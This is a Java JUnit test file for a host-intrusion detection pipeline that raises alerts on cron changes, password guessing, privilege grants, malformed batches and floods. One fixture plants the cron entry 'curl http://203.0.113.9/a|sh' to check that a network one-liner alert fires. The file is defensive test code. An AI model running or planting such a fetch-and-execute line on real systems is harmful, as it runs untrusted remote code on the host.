package bzh.vigie.collector.detect;

import static bzh.vigie.event.Event.Change.ADDED;
import static bzh.vigie.event.Event.Change.CHANGED;
import static bzh.vigie.event.Event.Change.NEWLY_VISIBLE;
import static bzh.vigie.event.Event.Change.PRESENT;
import static bzh.vigie.event.Event.Change.REMOVED;
import static bzh.vigie.event.Item.Shipped.AS_PACKAGED;
import static bzh.vigie.event.Item.Shipped.MODIFIED;
import static bzh.vigie.event.Item.Shipped.UNOWNED;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.detect.finding.Detector;
import bzh.vigie.collector.detect.finding.Finding;
import bzh.vigie.collector.detect.finding.Ruling;
import bzh.vigie.collector.detect.finding.Seen;
import bzh.vigie.collector.detect.sigma.Match;
import bzh.vigie.collector.detect.sigma.PlainRules;
import bzh.vigie.collector.detect.sigma.Rules;
import bzh.vigie.collector.detect.sigma.SigmaRecord;
import bzh.vigie.collector.detect.sigma.SigmaRule;
import bzh.vigie.collector.fairness.Resource;
import bzh.vigie.collector.fairness.Shares;
import bzh.vigie.collector.host.Forgetting;
import bzh.vigie.collector.host.HostDecision;
import bzh.vigie.collector.store.AgentId;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.Alerts.Numbered;
import bzh.vigie.collector.store.Alerts.Severity;
import bzh.vigie.collector.store.EventHistory.Stored;
import bzh.vigie.collector.store.Hosts.Host;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.collector.store.Store;
import bzh.vigie.event.Account;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.LogonAction;
import bzh.vigie.event.Event.LogonType;
import bzh.vigie.event.Item;
import bzh.vigie.event.Observed;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.SourceCount;
import bzh.vigie.event.WatchState;
import bzh.vigie.v1.EventBatch;
import bzh.vigie.wire.EventCodec;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

final class PipelineTest {
    private static final String CRON = "linux.cron.system";

    private Path folder;
    private Line line;
    private AgentId pc;

    @BeforeEach
    void open(@TempDir Path temporary) {
        folder = temporary;
        line = new Line(temporary);
        pc = line.enrol(1, Line.QUIMPER);
    }

    @AfterEach
    void close() {
        line.close();
    }

    private void enrolled() throws IOException, InterruptedException {
        line.send(
                pc,
                line.seen(
                        PRESENT,
                        Line.cron(
                                "e2scrub_all",
                                "test -x /sbin/e2scrub_all_cron",
                                AS_PACKAGED,
                                Item.Trait.INLINE_SCRIPT)),
                line.seen(PRESENT, Line.cron("backup", "/usr/local/sbin/backup", MODIFIED)),
                line.listed(CRON));
    }

    @Test
    void anOrdinaryHostIsEnrolledInSilence() throws Exception {
        enrolled();
        assertEquals(List.of(), line.rules());
    }

    @Test
    void whatWasThereBeforeIsJudgedAndSaysSo() throws Exception {
        line.send(
                pc,
                line.seen(
                        PRESENT,
                        Line.cron(
                                "x",
                                "curl http://203.0.113.9/a|sh",
                                UNOWNED,
                                Item.Trait.NETWORK_TOOL,
                                Item.Trait.INLINE_SCRIPT)),
                line.listed(CRON));
        Alert alert = line.alerts().getFirst();
        assertEquals("vigie-linux-network-one-liner", alert.rule());
        assertEquals(Severity.HIGH, alert.severity());
        assertEquals("present", alert.evidence().get("change"));
        assertTrue(alert.evidence().getOrDefault("also", "").contains("vigie-linux-network-tool-present"));
        assertTrue(alert.techniques().contains("T1053.003"));
    }

    @Test
    void whatAppearsChangesAndGoesLaterIsToldUnlessAPackageBroughtIt() throws Exception {
        enrolled();
        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
        line.send(pc, line.seen(CHANGED, Line.cron("new", "/opt/y", UNOWNED)));
        line.send(pc, line.seen(REMOVED, Line.cron("new", "/opt/y", UNOWNED)));
        line.send(pc, line.seen(ADDED, Line.cron("sysstat", "/usr/lib/sysstat/sa1", AS_PACKAGED)));
        line.send(pc, line.seen(REMOVED, Line.cron("sysstat", "/usr/lib/sysstat/sa1", AS_PACKAGED)));
        assertEquals(List.of("vigie-linux-by-hand", "vigie-linux-by-hand", "vigie-item-removed"), line.rules());
        Alert changed = line.alerts().get(1);
        assertEquals("/opt/x", changed.evidence().get("before.value"));
        assertEquals("1", changed.evidence().get("prevalence"));
    }

    @Test
    void whatOnlyBecameVisibleIsNeverReportedAsAdded() throws Exception {
        enrolled();
        line.send(pc, line.seen(NEWLY_VISIBLE, Line.cron("old", "/opt/x", UNOWNED)));
        assertEquals(List.of("vigie-linux-unowned-present"), line.rules());
        assertEquals("newly-visible", line.alerts().getFirst().evidence().get("change"));
    }

    @Test
    void aListingAfterALossTellsWhatCameAndWent() throws Exception {
        enrolled();
        line.send(
                pc,
                line.seen(
                        PRESENT,
                        Line.cron(
                                "e2scrub_all",
                                "test -x /sbin/e2scrub_all_cron",
                                AS_PACKAGED,
                                Item.Trait.INLINE_SCRIPT)),
                line.seen(PRESENT, Line.cron("came", "/opt/x", UNOWNED)),
                line.listed(CRON));
        assertEquals(List.of("vigie-linux-by-hand", "vigie-item-removed"), line.rules());
        assertEquals("backup", line.alerts().get(1).evidence().get("name"));
    }

    @Test
    void theSameOnManyHostsOfACommuneIsOneLine() throws Exception {
        enrolled();
        AgentId other = line.enrol(2, Line.QUIMPER);
        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
        line.send(other, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
        assertEquals(1, line.alerts().size());
        assertEquals(2, line.alerts().getFirst().count());
    }

    @Test
    void aBatchThatIsSentAgainCountsOnce() throws Exception {
        enrolled();
        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
        line.feed.add(line.feed.records().getLast());
        line.feed.add(line.feed.records().getFirst());
        Line.drain(line.pipeline);
        assertEquals(1, line.alerts().size());
        assertEquals(1, line.alerts().getFirst().count());
    }

    @Test
    void aBatchThatCannotBeDecodedStopsNothing() throws Exception {
        line.put(pc, 1, "garbage".getBytes(StandardCharsets.UTF_8));
        line.put(pc, 2, new byte[0]);
        Line.drain(line.pipeline);
        line.put(pc, 3, EventCodec.encode(List.of(line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)))));
        Line.drain(line.pipeline);
        assertEquals(List.of("vigie-batch-malformed", "vigie-linux-by-hand"), line.rules());
        assertEquals(2, line.alerts().getFirst().count());
        List<Event.Loss> losses = line.store.read(
                session -> session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)));
        assertEquals(1, losses.size());
        assertEquals(2, losses.getFirst().events());
        assertEquals(
                List.of(1L, 2L),
                List.of(losses.getFirst().fromNumber(), losses.getFirst().toNumber()));
        try (var files = Files.list(folder.resolve("quarantine"))) {
            assertEquals(2, files.count());
        }
    }

    /** Twenty batches of 8,240 bytes made 168 MB of the store: a word of a closed list was kept whole, once a batch. */
    @Test
    void aWordThatIsNoneOfItsListIsNotKept() throws Exception {
        Item item = Line.cron("new", "/opt/x", UNOWNED);
        byte[] known = EventCodec.encode(List.of(line.seen(ADDED, item)));
        EventBatch batch = EventBatch.parseFrom(known);
        for (int number = 1; number <= 20; number++) {
            EventBatch.Builder foreign = batch.toBuilder();
            foreign.getEventsBuilder(0).getItemSeenBuilder().getItemBuilder().setShipped("A".repeat(8_000_000));
            line.put(pc, number, foreign.build().toByteArray());
        }
        for (int number = 21; number <= 25; number++) {
            line.put(pc, number, "garbage".getBytes(StandardCharsets.UTF_8));
        }
        Line.drain(line.pipeline);
        List<Event.Loss> losses = line.store.read(
                session -> session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)));
        assertEquals(1, losses.size());
        assertEquals(25, losses.getFirst().events());
        assertTrue(losses.getFirst().detail().length() <= 200, losses.getFirst().detail());
        assertTrue(
                line.alerts().getFirst().evidence().getOrDefault("reason", "").length() <= 200);
        assertEquals(20, line.alerts().getFirst().count(), "beyond its share each is a loss alone");
        assertFalse(Files.exists(
                folder.resolve("quarantine/" + pc.text() + "-0123456789abcdef0123456789abcdef-1-21.deflated")));
        line.pipeline.tick(line.now);
        assertEquals("unreadable-batches", line.alerts().getLast().evidence().get("resource"));
    }

    @Test
    void lostEventsAreAnAlertAndLowerCoverage() throws Exception {
        line.send(
                pc,
                new Event.Loss(
                        line.at(0),
                        "agent.spool",
                        3,
                        1,
                        9,
                        List.of(new SourceCount("linux.process.connector", 120, 1, 2)),
                        ReasonCode.OVERLOADED,
                        ""));
        assertEquals("120", line.alerts().getFirst().evidence().get("events"));
        assertEquals(
                1,
                line.store
                        .read(session ->
                                session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)))
                        .size());
    }

    private Event logon(LogonAction action, String account, String address, long second) {
        return new Event.Logon(
                line.at(second),
                "linux.auth-log",
                action,
                LogonType.SSH,
                new Account("", account),
                Optional.empty(),
                address,
                "",
                "password",
                "",
                Observed.missed(Observed.Why.NOT_OFFERED),
                "");
    }

    @Test
    void failuresThenASuccessFromTheSameAddressIsAnAlert() throws Exception {
        for (int i = 0; i < 5; i++) {
            line.send(pc, logon(LogonAction.FAILED, "root", "203.0.113.9", i));
        }
        line.send(pc, logon(LogonAction.LOGON, "root", "198.51.100.1", 6));
        assertEquals(List.of(), line.rules());
        line.send(pc, logon(LogonAction.LOGON, "root", "203.0.113.9", 7));
        assertEquals(List.of("vigie-logon-after-failures"), line.rules());
        assertEquals("5", line.alerts().getFirst().evidence().get("failures"));
    }

    /** The row of an address was empty once a success of a program had taken its failures, and was never read again. */
    @Test
    void guessesAfterThoseOfAProgramCountAnew() throws Exception {
        line.send(pc, logon(LogonAction.LOGON, "root", "203.0.113.9", 0));
        int told = 0;
        for (long times = 1; times <= 2; times++) {
            for (int i = 0; i < 30; i++) {
                line.send(pc, logon(LogonAction.FAILED, "root", "203.0.113.9", times * 4_000));
            }
            line.send(pc, logon(LogonAction.LOGON, "root", "203.0.113.9", times * 4_000 + 1));
            int now = line.alerts().stream()
                    .filter(alert -> alert.rule().equals("vigie-logon-after-failures"))
                    .mapToInt(alert -> alert.count())
                    .sum();
            assertTrue(now > told, now + " after " + told);
            told = now;
        }
    }

    @Test
    void aTypingErrorOrTwoAndOldFailuresAreNone() throws Exception {
        for (int i = 0; i < 3; i++) {
            line.send(pc, logon(LogonAction.FAILED, "lea", "192.0.2.7", i));
        }
        line.send(pc, logon(LogonAction.LOGON, "lea", "192.0.2.7", 5));
        for (int i = 0; i < 9; i++) {
            line.send(pc, logon(LogonAction.FAILED, "yann", "192.0.2.8", i));
        }
        line.now = line.now.plusSeconds(601);
        line.send(pc, logon(LogonAction.LOGON, "yann", "192.0.2.8", 0));
        assertEquals(List.of(), line.rules());
    }

    @Test
    void guessingManyAccountsFromOneAddressCountsTogether() throws Exception {
        for (int i = 0; i < 12; i++) {
            line.send(pc, logon(LogonAction.FAILED, "user" + i, "203.0.113.9", i));
        }
        line.send(pc, logon(LogonAction.LOGON, "lea", "203.0.113.9", 13));
        assertEquals(List.of("vigie-logon-after-failures"), line.rules());
    }

    @Test
    void aRightGainedIsAnAlertAndAPasswordSetIsNot() throws Exception {
        Account lea = new Account("1001", "lea");
        line.send(
                pc,
                new Event.AccountChange(
                        line.at(0),
                        "linux.auth-log",
                        Event.AccountAction.PASSWORD_SET,
                        lea,
                        Optional.empty(),
                        Optional.empty(),
                        ""),
                new Event.AccountChange(
                        line.at(0),
                        "linux.auth-log",
                        Event.AccountAction.ADDED_TO_GROUP,
                        lea,
                        Optional.empty(),
                        Optional.of(new Account("27", "sudo")),
                        ""));
        assertEquals(List.of("vigie-right-gained"), line.rules());
    }

    /** A drill by others: "(not recorded) was made" of a group, and again what lines said that were read once more. */
    @Test
    void aGroupIsNoAccountAndALineThatIsReadAgainSaysNothingNew() throws Exception {
        Event made = made(new Account("1007", "stagiaire"), Optional.empty());
        line.send(pc, made, made(new Account("", ""), Optional.of(new Account("", "stagiaire"))));
        line.send(pc, made);
        assertEquals(List.of("vigie-account-created"), line.rules());
        assertEquals(1, line.alerts().getFirst().count());
        line.now = line.now.plusSeconds(60);
        line.send(pc, made(new Account("1008", "stagiaire"), Optional.empty()));
        assertEquals(2, line.alerts().stream().mapToInt(Alert::count).sum(), "made anew");
    }

    private Event made(Account account, Optional<Account> group) {
        return new Event.AccountChange(
                line.at(0), "linux.auth-log", Event.AccountAction.CREATED, account, Optional.empty(), group, "");
    }

    @Test
    void theHistoryHasEveryEventOnce() throws Exception {
        enrolled();
        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
        assertEquals(4, line.history.events().size());
        String id = pc + "/0123456789abcdef0123456789abcdef/1/2/0";
        assertEquals(
                "added",
                Objects.requireNonNull(line.history.events().get(id)).fields().get("change"));
        assertEquals(2, line.history.position("ingest"));
    }

    @Test
    void aFloodFromOneHostIsOneLineMore() throws Exception {
        enrolled();
        Event[] flood = new Event[250];
        for (int i = 0; i < flood.length; i++) {
            // each in a folder of its own: what fills one folder is one act
            String source = "/etc/flood-" + i + "/job";
            flood[i] = line.seen(
                    ADDED, Line.item("linux.cron.system", source, "job-" + i, "/opt/" + i, UNOWNED, Optional.empty()));
        }
        line.send(pc, flood);
        List<Alert> alerts = line.alerts();
        assertEquals(Raising.MOST_IN_AN_HOUR + 1, alerts.size());
        assertEquals(1, alerts.stream().filter(alert -> alert.count() == 150).count());
    }

    @Test
    void afterAThousandAlertsOfADayAHostHasOneMoreOfEachRuleInAnHour() throws Exception {
        line.shares = new Shares(() -> 0);
        Pipeline pipeline = line.pipeline(line.store);
        enrolled();
        for (int hour = 0; hour < 11; hour++) {
            Event[] flood = new Event[Raising.MOST_IN_AN_HOUR];
            for (int i = 0; i < flood.length; i++) {
                // each in a folder of its own: what fills one folder is one act
                int number = flood.length * hour + i;
                String source = "/etc/flood-" + number + "/job";
                flood[i] = line.seen(
                        ADDED,
                        Line.item("linux.cron.system", source, "job-" + number, "/opt/x", UNOWNED, Optional.empty()));
            }
            line.put(pc, flood);
            Line.drain(pipeline);
            line.now = line.now.plus(Duration.ofHours(1));
        }
        List<Numbered> last = line.store.read(session -> session.alerts().after(new Scope.All(), 1_000, 9));
        assertEquals(1, last.size());
        assertEquals(Raising.MOST_IN_AN_HOUR, last.getFirst().alert().count());
        pipeline.tick(line.now);
        Alert flood = line.store
                .read(session -> session.alerts().after(new Scope.All(), 1_001, 9))
                .getFirst()
                .alert();
        assertEquals("vigie-host-floods", flood.rule());
        assertEquals("alerts", flood.evidence().get("resource"));
    }

    /** 126,752 bytes sent made 82 MB of items. */
    @Test
    void aHostKeepsItsShareOfItemsAndIsToldOf() throws Exception {
        enrolled();
        line.shares = new Shares(
                Map.of(Resource.ITEM_BYTES, new Resource.Bound(100_000, Long.MAX_VALUE, 0)), System::nanoTime);
        Pipeline pipeline = line.pipeline(line.store);
        Event[] many = new Event[20];
        for (int i = 0; i < many.length; i++) {
            many[i] = line.seen(PRESENT, Line.cron("flood-" + i, "x".repeat(10_000) + i, AS_PACKAGED));
        }
        line.put(pc, many);
        Line.drain(pipeline);
        pipeline.tick(line.now);
        assertEquals(
                2 + 9,
                line.store
                        .read(session -> session.inventories().at(pc, line.now))
                        .size());
        List<Event.Loss> losses = line.store.read(
                session -> session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)));
        assertEquals(1, losses.size());
        assertEquals(11, losses.getFirst().events());
        Alert alert = line.alerts().getLast();
        assertEquals("vigie-host-floods", alert.rule());
        assertEquals("item-bytes", alert.evidence().get("resource"));
    }

    /** What waits for detection when somebody has what a host sent removed comes after the removal. */
    @Test
    void whatAForgottenHostSentIsNotJudged() throws Exception {
        AgentId other = line.enrol(2, Line.QUIMPER);
        line.put(pc, line.seen(PRESENT, Line.cron("late", "/opt/x", AS_PACKAGED)));
        line.put(other, line.seen(PRESENT, Line.cron("late", "/opt/x", AS_PACKAGED)));
        line.store.change(session -> {
            Host host = session.hosts().find(pc).orElseThrow();
            HostDecision.REVOKE.on(session, host, line.now, Specimens.ANALYST);
            Forgetting.decide(session, host, Specimens.ANALYST);
        });
        Line.drain(line.pipeline);
        assertEquals(
                List.of(other),
                line.history.events().values().stream().map(Stored::host).toList());
        assertEquals(List.of(), line.store.read(session -> session.inventories().at(pc, line.now)));
        line.store.change(session ->
                HostDecision.READMIT.on(session, session.hosts().find(pc).orElseThrow(), line.now, Specimens.ANALYST));
        line.send(pc, line.seen(PRESENT, Line.cron("back", "/opt/x", AS_PACKAGED)));
        assertEquals(2, line.history.events().size());
    }

    @Test
    void eventsOverAHostsShareCountAsLost() throws Exception {
        line.shares = new Shares(Map.of(Resource.EVENTS, new Resource.Bound(2, Long.MAX_VALUE, 0)), System::nanoTime);
        Pipeline pipeline = line.pipeline(line.store);
        AgentId other = line.enrol(2, Line.QUIMPER);
        for (int i = 0; i < 5; i++) {
            line.put(pc, line.seen(PRESENT, Line.cron("item-" + i, "/opt/x", AS_PACKAGED)));
        }
        line.put(other, line.seen(PRESENT, Line.cron("item", "/opt/x", AS_PACKAGED)));
        Line.drain(pipeline);
        pipeline.tick(line.now);
        assertEquals(3, line.history.events().size());
        List<Event.Loss> losses = line.store.read(
                session -> session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)));
        assertEquals(3, losses.getFirst().events());
        assertEquals(ReasonCode.OVERLOADED, losses.getFirst().reason());
        assertEquals("events", line.alerts().getLast().evidence().get("resource"));
    }

    private Event coverage(int from, int length) {
        return new Event.Coverage(
                line.at(from + length),
                "linux.logon",
                "linux.logon",
                Optional.empty(),
                line.at(0).wallMicros() + from * 1_000_000L,
                line.at(0).wallMicros() + (from + length) * 1_000_000L,
                length * 1_000_000L,
                WatchState.LIVE,
                ReasonCode.NONE,
                "",
                0,
                0);
    }

    /** What one PC says that it lost: each time of another day, with names that it makes up. */
    private Event loss(int day, int sources) {
        List<SourceCount> counts = new ArrayList<>();
        for (int i = 0; i < sources; i++) {
            counts.add(
                    new SourceCount("made-up." + day + "." + i, 1, day * 86_400_000_000L, day * 86_400_000_000L + 1));
        }
        return new Event.Loss(line.at(0), "agent.spool", 2, 1, 1, counts, ReasonCode.FAILED, "");
    }

    /** 11,400 stretches with holes between them were as many rows, and an event of losses 256. */
    @Test
    void rowsOfCoverageOverAHostsShareCountAsLost() throws Exception {
        line.shares = new Shares(Map.of(Resource.COVERAGE, new Resource.Bound(200, 1_000, 0)), System::nanoTime);
        Pipeline pipeline = line.pipeline(line.store);
        for (int i = 0; i < 50; i++) {
            line.put(pc, coverage(i * 10, 10));
        }
        Line.drain(pipeline);
        assertTrue(line.shares.floods().isEmpty(), "what goes on is one row");
        for (int i = 0; i < 300; i++) {
            line.put(pc, coverage(1_000 + i * 10, 5), loss(i + 1, 250));
            line.put(pc, new Event.SourceState(line.at(0), "made-up." + i, WatchState.DOWN, ReasonCode.FAILED, ""));
        }
        Line.drain(pipeline);
        pipeline.tick(line.now);
        line.store.read(session -> {
            List<Event.Loss> losses =
                    session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1));
            int told = losses.stream()
                    .filter(loss -> loss.source().equals("agent.spool"))
                    .mapToInt(loss -> 1 + loss.sources().size())
                    .sum();
            int stretches = session.coverage()
                    .stretches(pc, Line.START, Line.START.plusSeconds(10_000))
                    .size();
            int states = session.coverage().states(pc).size();
            assertEquals(
                    200,
                    told + stretches + states,
                    told + " " + stretches + " " + states + " left "
                            + line.shares.left(
                                    Resource.COVERAGE, bzh.vigie.collector.fairness.Holder.of(pc, Line.QUIMPER)));
            assertEquals(
                    (300 - (stretches - 1)) + (300 - states) + 300 * 250,
                    losses.stream().mapToLong(Event.Loss::events).sum());
            return true;
        });
        assertEquals("coverage", line.alerts().getLast().evidence().get("resource"));
    }

    /** 2,000 items of 32 kB of one PC, 100 kB sent, held the alerts of all others up by 92 seconds. */
    @Test
    void whoTakesLongToJudgeHoldsUpNobodyElse() throws Exception {
        AgentId victim = line.enrol(2, Line.QUIMPER);
        Rules slow = new Rules() {
            @Override
            public List<Match> judge(SigmaRecord record) {
                line.processorNanos += record.value("name").startsWith("slow")
                        ? Duration.ofSeconds(1).toNanos()
                        : 1_000;
                return List.of();
            }

            @Override
            public List<SigmaRule> all() {
                return List.of();
            }
        };
        for (int i = 0; i < 300; i++) {
            line.put(pc, line.seen(ADDED, Line.cron("slow-" + i, "/opt/x", UNOWNED)));
        }
        Pipeline pipeline = line.pipeline(line.store, slow);
        assertTrue(pipeline.step(Duration.ZERO));
        for (int i = 0; i < 10; i++) {
            line.put(victim, line.seen(ADDED, Line.cron("quick-" + i, "/opt/x", UNOWNED)));
        }
        assertTrue(pipeline.step(Duration.ZERO));
        pipeline.commitHistory();
        assertEquals(
                10,
                line.history.events().keySet().stream()
                        .filter(id -> id.startsWith(victim.text()))
                        .count());
        assertEquals(11, line.history.events().size(), "one of the flood before them");
        assertEquals(0, line.history.position("ingest"), "a crash reads again what is not judged");
        pipeline.tick(line.now);
        assertEquals(
                Optional.of(line.now), line.store.read(session -> Pipeline.waitingSince(session, "ingest")), "told");
        Line.drain(pipeline);
        pipeline.commitHistory();
        assertEquals(310, line.history.events().size());
        assertEquals(310, line.history.position("ingest"));
        pipeline.tick(line.now);
        assertEquals(Optional.empty(), line.store.read(session -> Pipeline.waitingSince(session, "ingest")));
    }

    /** A batch of 250 items of 30,000 characters took a second, and another host's event waited for its end. */
    @Test
    void aBatchThatTakesLongIsInterruptedAndGoesOn() throws Exception {
        AgentId victim = line.enrol(2, Line.QUIMPER);
        List<String> judged = new ArrayList<>();
        Rules slow = new Rules() {
            @Override
            public List<Match> judge(SigmaRecord record) {
                judged.add(record.value("name"));
                line.processorNanos += Duration.ofMillis(4).toNanos();
                return List.of();
            }

            @Override
            public List<SigmaRule> all() {
                return List.of();
            }
        };
        Event[] items = new Event[6];
        for (int i = 0; i < items.length; i++) {
            items[i] = line.seen(ADDED, Line.cron("long-" + i, "/opt/x", UNOWNED));
        }
        line.put(pc, items);
        line.put(pc, line.seen(ADDED, Line.cron("last", "/opt/x", UNOWNED)));
        Pipeline pipeline = line.pipeline(line.store, slow);
        assertTrue(pipeline.step(Duration.ZERO));
        assertEquals(List.of("long-0", "long-1"), judged);
        line.put(victim, line.seen(ADDED, Line.cron("victim", "/opt/x", UNOWNED)));
        assertTrue(pipeline.step(Duration.ZERO));
        assertEquals(List.of("long-0", "long-1", "victim"), judged);
        assertTrue(pipeline.step(Duration.ZERO));
        pipeline.commitHistory();
        assertEquals(0, line.history.position("ingest"), "a crash reads again what is not judged");
        Pipeline afterACrash = line.pipeline(line.store, slow);
        Line.drain(afterACrash);
        assertEquals(List.of("long-0", "long-1", "victim", "long-2", "long-3", "long-4", "long-5", "last"), judged);
        assertEquals(8, line.history.events().size());
        assertEquals(3, line.history.position("ingest"));
        assertEquals(Map.of(), line.store.read(session -> session.progress().states("judged-part")));
    }

    /** Another's event waited for the rest of a turn of 5 ms: 4.4 ms to its alert became 10 to 17. */
    @Test
    void aTurnGivesWayToWhomeverComesMeanwhile() throws Exception {
        AgentId victim = line.enrol(2, Line.QUIMPER);
        Event theirs = line.seen(ADDED, Line.cron("victim", "/opt/x", UNOWNED));
        List<String> judged = new ArrayList<>();
        Rules slow = new Rules() {
            @Override
            public List<Match> judge(SigmaRecord record) {
                judged.add(record.value("name"));
                line.processorNanos += Duration.ofMillis(1).toNanos();
                if (record.value("name").equals("long-6")) {
                    line.put(victim, theirs);
                }
                return List.of();
            }

            @Override
            public List<SigmaRule> all() {
                return List.of();
            }
        };
        Event[] items = new Event[12];
        for (int i = 0; i < items.length; i++) {
            items[i] = line.seen(ADDED, Line.cron("long-" + i, "/opt/x", UNOWNED));
        }
        line.put(pc, items);
        Pipeline pipeline = line.pipeline(line.store, slow);
        assertTrue(pipeline.step(Duration.ZERO));
        assertEquals(5, judged.size(), "a turn of 5 ms");
        assertTrue(pipeline.step(Duration.ZERO));
        assertEquals(List.of("long-6", "victim"), judged.subList(6, judged.size()), "in one transaction");
        Line.drain(pipeline);
        pipeline.commitHistory();
        assertEquals(13, judged.size());
        assertEquals(13, line.history.events().size());
        assertEquals(2, line.history.position("ingest"));
    }

    /** Another's event waited until the history had what was judged before, and for its flush. */
    @Test
    void whoComesMeanwhileWaitsForNoHistory() throws Exception {
        AgentId victim = line.enrol(2, Line.QUIMPER);
        Event theirs = line.seen(ADDED, Line.cron("victim", "/opt/x", UNOWNED));
        List<String> judged = new ArrayList<>();
        Pipeline pipeline = line.pipeline(line.store, new Rules() {
            @Override
            public List<Match> judge(SigmaRecord record) {
                judged.add(record.value("name"));
                if (record.value("name").equals("first")) {
                    line.put(victim, theirs);
                }
                return List.of();
            }

            @Override
            public List<SigmaRule> all() {
                return List.of();
            }
        });
        line.put(pc, line.seen(ADDED, Line.cron("first", "/opt/x", UNOWNED)));
        assertTrue(pipeline.step(Duration.ZERO));
        assertEquals(List.of("first"), judged);
        pipeline.commitHistory();
        assertEquals(0, line.history.events().size());
        assertTrue(pipeline.step(Duration.ZERO));
        assertEquals(List.of("first", "victim"), judged);
        pipeline.commitHistory();
        assertEquals(2, line.history.events().size());
        assertEquals(2, line.history.position("ingest"));
    }

    /** The history takes as long as judging, and what it is given of another is interrupted as well. */
    @Test
    void whoComesWhileTheHistoryIsFilledWaitsForOneEventOfIt() throws Exception {
        AgentId victim = line.enrol(2, Line.QUIMPER);
        Event theirs = line.seen(ADDED, Line.cron("victim", "/opt/x", UNOWNED));
        Pipeline pipeline = line.pipeline(line.store);
        line.put(
                pc,
                line.seen(ADDED, Line.cron("a", "/opt/x", UNOWNED)),
                line.seen(ADDED, Line.cron("b", "/opt/x", UNOWNED)),
                line.seen(ADDED, Line.cron("c", "/opt/x", UNOWNED)));
        line.history.meanwhile = () -> line.put(victim, theirs);
        assertTrue(pipeline.step(Duration.ZERO));
        pipeline.commitHistory();
        assertEquals(1, line.history.events().size());
        assertEquals(0, line.history.position("ingest"), "not all of the first is there");
        assertTrue(pipeline.step(Duration.ZERO));
        pipeline.commitHistory();
        assertEquals(4, line.history.events().size());
        assertEquals(2, line.history.position("ingest"));
    }

    /** One that cannot be judged and came during another's turn takes nothing of the other with it. */
    @Test
    void whoComesMeanwhileAndCannotBeJudgedGoesAlone() throws Exception {
        AgentId other = line.enrol(2, Line.QUIMPER);
        Event poison = line.seen(ADDED, Line.cron("poison", "/opt/x", UNOWNED));
        Pipeline pipeline = line.pipeline(line.store, new Rules() {
            private boolean came;

            @Override
            public List<Match> judge(SigmaRecord record) {
                line.processorNanos += Duration.ofMillis(1).toNanos();
                if (record.value("name").equals("poison")) {
                    throw new IllegalArgumentException("a fault of ours");
                }
                if (record.value("name").equals("long-6") && !came) {
                    came = true;
                    line.put(other, poison);
                }
                return List.of();
            }

            @Override
            public List<SigmaRule> all() {
                return List.of();
            }
        });
        Event[] items = new Event[12];
        for (int i = 0; i < items.length; i++) {
            items[i] = line.seen(ADDED, Line.cron("long-" + i, "/opt/x", UNOWNED));
        }
        line.put(pc, items);
        Line.drain(pipeline);
        pipeline.commitHistory();
        assertEquals(12, line.history.events().size());
        assertEquals(2, line.history.position("ingest"));
        assertEquals(
                List.of(other),
                line.alerts().stream()
                        .filter(each -> each.rule().equals("vigie-batch-malformed"))
                        .map(Alert::host)
                        .toList());
    }

    @Test
    void whatComesBeforeSomethingUnreadableIsJudged() throws Exception {
        EventBatch.Builder batch = EventBatch.parseFrom(EventCodec.encode(List.of(
                        line.seen(ADDED, Line.cron("first", "/opt/x", UNOWNED)),
                        line.seen(ADDED, Line.cron("second", "/opt/x", UNOWNED)),
                        line.seen(ADDED, Line.cron("third", "/opt/x", UNOWNED)))))
                .toBuilder();
        batch.getEventsBuilder(1).getItemSeenBuilder().getItemBuilder().setShipped("no such word");
        line.put(pc, 1, batch.build().toByteArray());
        Line.drain(line.pipeline);
        assertEquals(List.of("vigie-linux-by-hand", "vigie-batch-malformed"), line.rules());
        assertEquals(1, line.history.events().size());
    }

    @Test
    void aBatchThatCannotBeJudgedStopsNoOther() throws Exception {
        stopsNoOther(() -> {
            throw new IllegalArgumentException("a fault of ours");
        });
    }

    @Test
    void aBatchThatOverflowsTheStackStopsNoOther() throws Exception {
        stopsNoOther(() -> {
            throw new StackOverflowError();
        });
    }

    @Test
    void anErrorIsOfItsBatchWhereItComesAgainAndAgain() throws Exception {
        Pipeline pipeline = poisoned(() -> {
            throw new OutOfMemoryError("on purpose");
        });
        assertThrows(OutOfMemoryError.class, () -> pipeline.step(Duration.ZERO));
        assertThrows(OutOfMemoryError.class, () -> pipeline.step(Duration.ZERO));
        Line.drain(pipeline);
        assertEquals(List.of("vigie-ordinary-items", "vigie-batch-malformed"), line.rules());
    }

    @Test
    void aDetectorThatFailsAtEachTickStopsNoOther() throws Exception {
        boolean[] ticked = new boolean[1];
        Detector failing = new Detector() {
            @Override
            public List<Finding> judge(Seen seen, Store.Session session) {
                return List.of();
            }

            @Override
            public List<Finding> tick(Instant now, Store.Session session) {
                throw new IllegalStateException("on purpose");
            }
        };
        Detector after = new Detector() {
            @Override
            public List<Finding> judge(Seen seen, Store.Session session) {
                return List.of();
            }

            @Override
            public List<Finding> tick(Instant now, Store.Session session) {
                ticked[0] = true;
                return List.of();
            }
        };
